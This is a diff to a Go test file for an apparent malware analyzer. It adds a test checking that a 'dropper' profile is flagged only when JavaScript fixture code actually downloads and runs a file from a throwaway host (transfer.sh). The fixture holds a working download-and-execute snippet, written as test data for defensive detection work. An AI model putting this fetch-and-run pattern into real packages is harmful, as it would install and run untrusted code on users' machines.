@@ -2,6 +2,7 @@ package issue_test
 
 import (
 	"encoding/json"
+	"fmt"
 	"path/filepath"
 	"slices"
 	"sort"
@@ -226,5 +227,38 @@ func TestSeverities(t *testing.T) {
 	}
 	if _, err := issue.ParseSeverity("awful"); err == nil {
 		t.Error("awful is a severity")
+	}
+}
+
+// TestDropperHost: a program of many scripts that downloads and starts things is
+// no dropper because it names a host for throw-away files in a list.
+func TestDropperHost(t *testing.T) {
+	engine, err := analyzer.NewEngine()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const download = "const https = require('https'), fs = require('fs'), cp = require('child_process')\n" +
+		"https.get(URL, answer => { answer.pipe(fs.createWriteStream('tool')); cp.execFile('./tool') })\n"
+	for name, test := range map[string]struct {
+		load, list string
+		want       bool
+	}{
+		"in a list":         {strings.Replace(download, "URL", "process.env.TOOL_URL", 1), "module.exports = ['https://transfer.sh/']", false},
+		"in what downloads": {strings.Replace(download, "URL", "'https://transfer.sh/none/tool'", 1), "module.exports = []", true},
+	} {
+		files := map[string][]byte{"new/package.json": []byte(`{"name": "a", "version": "1.0.0"}`), "new/list.js": []byte(test.list), "new/load.js": []byte(test.load)}
+		index := "require('./list')\nrequire('./load')\n"
+		for i := range 25 {
+			files[fmt.Sprintf("new/part%d.js", i)] = []byte("exports.part = 1")
+			index += fmt.Sprintf("require('./part%d')\n", i)
+		}
+		files["new/index.js"] = []byte(index)
+		found := false
+		for _, i := range issue.Judge(readCase(t, engine, files)) {
+			found = found || i.ID == "malware/behavior-similarity" && i.Detail["profile"] == "dropper"
+		}
+		if found != test.want {
+			t.Errorf("%s: a dropper: %v, want %v", name, found, test.want)
+		}
 	}
 }
